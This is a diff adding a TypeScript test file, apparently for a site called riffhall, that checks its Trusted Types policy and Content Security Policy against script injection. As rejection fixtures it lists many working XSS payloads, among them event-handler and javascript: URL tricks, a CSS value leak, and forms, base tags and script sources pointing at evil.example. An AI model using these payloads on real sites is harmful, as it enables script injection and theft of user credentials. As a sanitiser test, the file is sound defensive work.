@@ -1,0 +1,101 @@
+// @vitest-environment jsdom
+import { readFileSync } from 'node:fs';
+import { runInNewContext } from 'node:vm';
+import { expect, it } from 'vitest';
+
+type Rule = (text: string, type: string, sink: string) => string | null;
+type Policy = Record<'createHTML' | 'createScriptURL', Rule>;
+
+const read = (path: string) => readFileSync(`${import.meta.dirname}/${path}`, 'utf8');
+const [, script = ''] = /<script>([^]*?)<\/script>/.exec(read('../../index.html')) ?? [];
+const deployed = read('../../../firebase.json');
+
+/** The default policy that the script in every page creates. */
+const policy = (() => {
+  const policies: Record<string, Policy> = {};
+  const createPolicy = (name: string, rules: Policy) => (policies[name] = rules);
+  const location = new URL('https://riffhall.example/article/one');
+  runInNewContext(script, {
+    ...{ DOMParser, URL, location, document, localStorage, addEventListener: () => undefined },
+    // The parser of this test knows nothing of Trusted Types: a browser asks the policy for it as well.
+    trustedTypes: { createPolicy },
+  });
+  return policies.default as Policy;
+})();
+const markup = (text: string, sink = 'Element innerHTML') => policy.createHTML(text, 'TrustedHTML', sink);
+const address = (text: string) =>
+  policy.createScriptURL(text, 'TrustedScriptURL', 'HTMLScriptElement src') === text;
+
+it('every content policy that lets a script run requires Trusted Types', () => {
+  const policies = [...deployed.matchAll(/"(default-src 'self';[^"]*)"/g)].map(([, text]) => text);
+  expect(policies).toHaveLength(2);
+  for (const text of policies) expect(text).toContain("; require-trusted-types-for 'script';");
+});
+
+it.each([
+  '<img src=x onerror=alert(1)>',
+  '<img src="x"/ONERROR=alert(1)>',
+  '<p title=">" onclick="alert(1)">',
+  '<svg><script>alert(1)</script></svg>',
+  '<svg onload=alert(1)>',
+  '<SCRIPT src="https://evil.example/a.js"></SCRIPT>',
+  '<style>input[value^=a]{background:url(/leak)}</style>',
+  '<link rel="stylesheet" href="//evil.example/a.css">',
+  '<base href="https://evil.example/">',
+  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
+  '<object data="a.swf"></object>',
+  '<embed src="a.swf">',
+  '<form action="https://evil.example/"><input name="password"></form>',
+  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
+  '<a href="javascript:alert(1)">a</a>',
+  '<a href=" Java&#9;Script&#10;:alert(1)">a</a>',
+  '<iframe src="&#1;javascript:alert(1)"></iframe>',
+  '<svg><a xlink:href="javascript:alert(1)"><text>a</text></a></svg>',
+  '<button formaction="javascript:alert(1)">a</button>',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
+  '<template><img src=x onerror=alert(1)></template>',
+])('text does not become this markup: %s', (text) => {
+  expect(markup(text)).toBeNull();
+});
+
+it.each([
+  'on = 1; onclick = javascript:alert(1)',
+  '<p>Seen <em>once</em> = never, &lt;script&gt; and all</p>',
+  '<figure><img src="/media/a.jpg" alt="JavaScript: the good parts" style="--tone: #123"></figure>',
+  '<iframe src="https://www.youtube-nocookie.com/embed/a" loading="lazy"></iframe>',
+  '<a href="https://example.org/?q=javascript:">a</a>',
+  '<tr><td>One cell</td></tr>',
+  '<div class="bar" role="bar"><div class="peg"></div></div>',
+])('text becomes this markup: %s', (text) => {
+  expect(markup(text)).toBe(text);
+});
+
+it('anything is read into a document of its own, where nothing runs', () => {
+  const pasted = '<style>p{}</style><p onclick="a()">a</p>';
+  expect(markup(pasted, 'DOMParser parseFromString')).toBe(pasted);
+});
+
+it('a script comes from the site, and from no host that the content policy does not name', () => {
+  const [, sources = ''] = /script-src ([^;]*)/.exec(deployed) ?? [];
+  const named = sources.split(' ').filter((source) => source.startsWith('http'));
+  expect(named.length).toBeGreaterThan(5);
+  for (const source of named) expect(address(source.replace('*', 'm-1')), source).toBe(true);
+  for (const own of ['/sw.js', '/assets/a.js', 'https://riffhall.example/reports.js'])
+    expect(address(own), own).toBe(true);
+  for (const other of [
+    'https://evil.example/a.js',
+    '//evil.example/a.js',
+    'https://js.stripe.com.evil.example/v3',
+    'https://evil-js.stripe.com/v3',
+    'https://riffhall.example@evil.example/a.js',
+    'http://riffhall.example:8080/a.js',
+    'data:text/javascript,alert(1)',
+    'blob:https://riffhall.example/1',
+    'javascript:alert(1)',
+  ])
+    expect(address(other), other).toBe(false);
+});
+
+it('no text becomes a script', () => {
+  expect(Object.keys(policy)).toEqual(['createHTML', 'createScriptURL']);
+});
